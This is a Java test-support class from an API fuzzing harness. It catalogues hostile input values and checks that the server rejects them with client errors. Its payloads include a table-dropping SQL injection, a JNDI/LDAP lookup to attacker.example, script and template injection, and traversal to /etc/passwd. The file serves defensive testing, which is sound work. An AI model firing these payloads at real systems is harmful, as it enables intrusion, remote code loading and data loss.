package org.collections.testsupport.fuzz;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.node.JsonNodeFactory;
import java.math.BigDecimal;
import java.util.LinkedHashMap;
import java.util.Map;

/** The catalogue of hostile values: every one must be answered with a 4xx problem (or accepted), never a 5xx. */
final class Attacks {

    static final String DEEP_MARKER = "@@FUZZ-DEEP@@";
    static final String SURROGATE_MARKER = "@@FUZZ-SURROGATE@@";
    static final String OVERLONG_MARKER = "@@FUZZ-OVERLONG@@";
    static final int NESTING = 5_000;

    private static final JsonNodeFactory JSON = JsonNodeFactory.instance;

    private Attacks() {
    }

    /** Replacements for one value of a JSON body, by name. The original decides the wrong type. */
    static Map<String, JsonNode> values(JsonNode original) {
        Map<String, JsonNode> v = new LinkedHashMap<>();
        v.put("wrong type", wrongType(original));
        v.put("null", JSON.nullNode());
        v.put("empty string", JSON.textNode(""));
        v.put("huge string", JSON.textNode("A".repeat(100_000)));
        v.put("NUL in string", JSON.textNode("fuzz\u0000nul"));
        v.put("huge exponent as string", JSON.textNode("1e1000000"));
        v.put("huge exponent as number", JSON.numberNode(new BigDecimal("1e1000000")));
        v.put("negative exponent as number", JSON.numberNode(new BigDecimal("1e-1000000")));
        v.put("too many decimals", JSON.textNode("100.0000000000000000000000001"));
        v.put("negative money", JSON.textNode("-100.00"));
        v.put("beyond column range", JSON.textNode("999999999999999999999999999999.99"));
        v.put("integer overflow", JSON.numberNode(new BigDecimal("92233720368547758070")));
        v.put("unknown enum", JSON.textNode("NOT_A_KNOWN_VALUE"));
        v.put("bad zone", JSON.textNode("Mars/Olympus_Mons"));
        v.put("far future date", JSON.textNode("+999999999-12-31"));
        v.put("far past date", JSON.textNode("-999999999-01-01"));
        v.put("far instant", JSON.textNode("+999999999-12-31T23:59:59Z"));
        v.put("sql injection", JSON.textNode("x' OR '1'='1'; DROP TABLE audit_log; --"));
        v.put("script injection", JSON.textNode("<script>alert(1)</script>${jndi:ldap://attacker.example/a}{{7*7}}"));
        v.put("path traversal", JSON.textNode("../../../../etc/passwd"));
        v.put("confusable id", JSON.textNode("SЕC-TEST\u200b"));
        v.put("deep nesting", JSON.textNode(DEEP_MARKER));
        v.put("lone surrogate", JSON.textNode(SURROGATE_MARKER));
        v.put("overlong UTF-8", JSON.textNode(OVERLONG_MARKER));
        return v;
    }

    /** Values for a query or path parameter, already URL-encoded. */
    static Map<String, String> parameters() {
        Map<String, String> v = new LinkedHashMap<>();
        v.put("NUL", "fuzz%00nul");
        v.put("max int", "2147483647");
        v.put("int overflow", "2147483648");
        v.put("negative", "-1");
        v.put("not a number", "abc");
        v.put("huge exponent", "1e1000000");
        v.put("far future date", "%2B999999999-12-31");
        v.put("far instant", "%2B999999999-12-31T23%3A59%3A59Z");
        v.put("bad zone", "Mars%2FOlympus_Mons");
        v.put("unknown enum", "NOT_A_KNOWN_VALUE");
        v.put("sql injection", "x%27%20OR%20%271%27%3D%271");
        v.put("path traversal", "..%2F..%2F..%2Fetc%2Fpasswd");
        v.put("long string", "A".repeat(8_000));
        v.put("empty", "");
        return v;
    }

    /**
     * Whether a request carrying this attack on this original value can only be wrong, so that accepting it (a 2xx)
     * is a finding too: a NUL in any string, a far date where a date belongs, an unbounded or over-precise number where
     * a number or amount belongs, malformed Unicode and duplicate keys.
     */
    static boolean mustReject(String attack, JsonNode original) {
        String text = original == null ? "" : original.asText("");
        boolean date = text.matches("\\d{4}-\\d{2}-\\d{2}.*");
        boolean number = original != null && (original.isNumber() || text.matches("-?\\d+(\\.\\d+)?"));
        switch (attack) {
            case "NUL in string":
            case "lone surrogate":
            case "overlong UTF-8":
                return original == null || original.isTextual();
            case "far future date":
            case "far past date":
            case "far instant":
                return date;
            case "huge exponent as string":
            case "huge exponent as number":
            case "too many decimals":
                return number;
            default:
                return false;
        }
    }

    private static JsonNode wrongType(JsonNode original) {
        if (original == null || original.isTextual()) {
            return JSON.numberNode(12345);
        }
        if (original.isNumber()) {
            return JSON.textNode("not a number");
        }
        if (original.isBoolean()) {
            return JSON.textNode("yes");
        }
        if (original.isArray()) {
            return JSON.objectNode().put("not", "a list");
        }
        return JSON.textNode("not an object");
    }
}
